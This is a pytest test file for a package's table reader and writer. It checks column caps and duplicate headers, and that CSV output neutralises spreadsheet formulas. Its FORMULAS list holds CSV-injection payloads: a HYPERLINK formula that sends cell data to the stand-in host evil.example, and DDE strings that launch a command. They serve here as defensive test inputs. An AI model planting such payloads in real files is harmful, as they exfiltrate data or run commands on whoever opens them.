"""Tables someone else wrote, read and written back: a header of many columns is checked in one pass and refused
beyond MAX_COLUMNS in one line (every command reads tables through io/tables.py), in every format."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from pragmeter.errors import DataError
from pragmeter.io.tables import MAX_COLUMNS, read_table


def wide_csv(path, names: list[str]) -> None:
    path.write_text(",".join(names) + "\n" + ",".join("x" for _ in names) + "\n", encoding="utf-8")


def test_a_header_of_many_columns_finds_its_repeated_name_and_the_count(tmp_path):
    names = [f"c{i}" for i in range(MAX_COLUMNS - 2)] + ["text", "text"]
    wide_csv(tmp_path / "wide.csv", names)
    with pytest.raises(DataError, match=r"wide.csv: header names column 'text' 2 times"):
        read_table(tmp_path / "wide.csv")
    wide_csv(tmp_path / "ok.csv", names[:-1])
    assert read_table(tmp_path / "ok.csv").shape == (1, MAX_COLUMNS - 1)  # up to the cap: read whole


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".jsonl", ".parquet"])
def test_a_table_of_more_columns_than_the_cap_is_refused_in_one_line(suffix, tmp_path):
    names = [f"c{i}" for i in range(MAX_COLUMNS + 1)]
    path = tmp_path / f"wide{suffix}"
    if suffix == ".csv":
        wide_csv(path, names)
    elif suffix == ".tsv":
        path.write_text("\t".join(names) + "\n" + "\t".join("x" for _ in names) + "\n", encoding="utf-8")
    elif suffix == ".jsonl":
        path.write_text(json.dumps({"c0": "a"}) + "\n" + json.dumps(dict.fromkeys(names, 1)) + "\n")
    else:
        pd.DataFrame([dict.fromkeys(names, 1)]).to_parquet(path)
    with pytest.raises(DataError, match=rf"wide{suffix}: {MAX_COLUMNS + 1} columns; a table may have at most "
                                        rf"{MAX_COLUMNS}"):
        read_table(path)


# ---------------------------------------------------------------- spreadsheet formulas in CSV output
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_csv_output_neutralises_formulas_and_keeps_numbers_and_plain_text(suffix, tmp_path):
    from pragmeter.io.tables import write_table

    texts = [*FORMULAS, "-0.5", "+3", "a = b", "It is late.", "- a list item"]
    frame = pd.DataFrame({"text": texts, "score": [-1.5] * len(texts), "=evil": range(len(texts))})
    write_table(frame, tmp_path / f"out{suffix}")
    back = read_table(tmp_path / f"out{suffix}")
    assert list(back.columns) == ["text", "score", "'=evil"]
    assert back["text"].tolist() == [*("'" + f for f in FORMULAS), "-0.5", "+3", "a = b", "It is late.",
                                     "'- a list item"]
    assert back["score"].astype(float).tolist() == [-1.5] * len(texts)  # numbers are numbers, never prefixed
    assert frame["text"].tolist() == texts and "=evil" in frame.columns  # the caller's frame is not changed


@pytest.mark.parametrize("suffix", [".jsonl", ".parquet"])
def test_parquet_and_json_lines_output_keep_every_value_as_it_is(suffix, tmp_path):
    from pragmeter.io.tables import write_table

    frame = pd.DataFrame({"text": FORMULAS, "=evil": range(len(FORMULAS))})
    write_table(frame, tmp_path / f"out{suffix}")
    back = read_table(tmp_path / f"out{suffix}")
    assert back["text"].tolist() == FORMULAS and "=evil" in back.columns


def test_score_writes_a_formula_from_its_input_as_text(tmp_path):
    """The real command: a hostile cell read from the input comes out of `score --output x.csv` neutralised."""
    from pragmeter.cli import main

    source = tmp_path / "in.jsonl"
    source.write_text("".join(json.dumps({"text": text}) + "\n" for text in FORMULAS[:2]), encoding="utf-8")
    assert main(["score", "--input", str(source), "--output", str(tmp_path / "out.csv"), "--no-cache",
                 "--impscore", "impscore-minilm", "--backend", "torch", "--no-progress"]) == 0
    assert read_table(tmp_path / "out.csv")["text"].tolist() == ["'" + text for text in FORMULAS[:2]]
